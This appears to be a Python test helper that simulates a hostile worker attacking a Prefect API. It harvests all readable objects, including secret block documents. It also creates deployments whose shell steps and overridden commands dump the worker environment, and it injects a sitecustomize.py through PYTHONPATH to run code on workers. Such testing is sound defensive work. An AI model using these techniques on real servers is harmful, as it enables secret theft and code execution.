"""Attacks of a hostile worker on a Prefect API, with nothing but an address and a login."""

from __future__ import annotations

import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx

KINDS = (
    "flow_runs", "deployments", "block_documents", "automations", "artifacts", "logs", "work_pools", "flows",
)  # fmt: skip
_STOLEN, _REPLACED = "stolen", "replaced"
BY_ENV = "by-env"
"""File that code writes which only the job variable `env` brought into a flow of the product."""
_OWN_FLOW = "plumbline.flows.watch.watch"


@dataclass(frozen=True)
class Api:
    """One Prefect server, and a login for it."""

    url: str
    login: str

    def post(self, path: str, body: dict[str, Any] | None = None) -> httpx.Response:
        user, _, password = self.login.partition(":")
        return httpx.post(f"{self.url}/{path}", json=body or {}, auth=(user, password), timeout=300)

    def items(self, kind: str) -> list[dict[str, Any]]:
        """Return what a holder of the login can read of one kind, secrets included; nothing if it is refused."""
        answer = self.post(f"{kind}/filter", {"include_secrets": True} if kind == "block_documents" else {})
        if answer.status_code in (401, 403):
            return []
        found: list[dict[str, Any]] = answer.raise_for_status().json()
        return found

    def everything(self) -> str:
        """Return all that a holder of the login can read."""
        return "\n".join(str(self.items(kind)) for kind in KINDS)

    def state(self, run: str) -> dict[str, Any]:
        """Return the state of a flow run."""
        user, _, password = self.login.partition(":")
        answer = httpx.get(f"{self.url}/flow_runs/{run}", auth=(user, password), timeout=300).raise_for_status()
        state: dict[str, Any] = answer.json()["state"]
        return state

    def start_code(self, pool: str, folder: Path) -> bool:
        """Start code on the workers of a pool in three ways; return whether the server accepts it.

        A new deployment runs a command that writes its environment to `folder`/stolen. The job variable `command`
        replaces what the worker runs. The job variable `env` of a deployment of the product's own flow changes what
        Python imports first, here from a folder, elsewhere from an API at PREFECT_API_URL.
        """
        flow = self.post("flows/", {"name": "hostile"})
        if flow.status_code in (401, 403):
            return False
        # A step of a deployment is one command without a shell.
        step = {"prefect.deployments.steps.run_shell_script": {"script": _steal(folder / _STOLEN)}}
        made = {
            "name": "hostile", "flow_id": flow.raise_for_status().json()["id"], "work_pool_name": pool,
            "entrypoint": "hostile.flow", "pull_steps": [step],
            "job_variables": {"command": _steal(folder / _REPLACED)},
        }  # fmt: skip
        imported = folder / "imported"
        imported.mkdir()
        code = f"import os, pathlib\npathlib.Path({str(folder / BY_ENV)!r}).write_text(str(os.environ))\nos._exit(0)\n"
        (imported / "sitecustomize.py").write_text(code)
        own = {
            **made, "name": "hostile-env", "entrypoint": _OWN_FLOW, "pull_steps": None,
            "job_variables": {"env": {"PYTHONPATH": str(imported)}},
        }  # fmt: skip
        for body in (made, own):
            deployment = self.post("deployments/", body).raise_for_status().json()["id"]
            self.post(f"deployments/{deployment}/create_flow_run").raise_for_status()
        return True


def _steal(file: Path) -> str:
    return f"sh -c 'env > {file}.part && mv {file}.part {file}'"


def stolen(folder: Path, seconds: float) -> str:
    """Wait for the environment that started code wrote; return it, or "" after `seconds`."""
    deadline = time.monotonic() + seconds
    while True:
        for name in (_STOLEN, _REPLACED):
            if (folder / name).is_file():
                return f"{name}\n{(folder / name).read_text()}"
        if time.monotonic() >= deadline:
            return ""
        time.sleep(0.1)
